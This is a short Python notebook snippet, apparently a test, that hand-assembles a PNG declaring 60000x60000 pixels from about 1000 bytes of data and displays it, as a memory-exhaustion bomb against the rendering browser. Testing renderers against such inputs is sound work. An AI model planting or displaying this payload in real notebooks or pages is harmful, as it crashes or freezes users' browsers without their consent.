# shows a picture of a few bytes that would fill the browser's memory
# remark: .*
# ruff: noqa
import base64, struct, zlib
from IPython.display import display


def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
raw = (
    b"\x89PNG\r\n\x1a\n"
    + head
    + chunk(b"IDAT", zlib.compress(bytes(1000)))
    + chunk(b"tEXt", b"BREACH")
    + chunk(b"IEND", b"")
)
display({"image/png": base64.b64encode(raw).decode()}, raw=True)
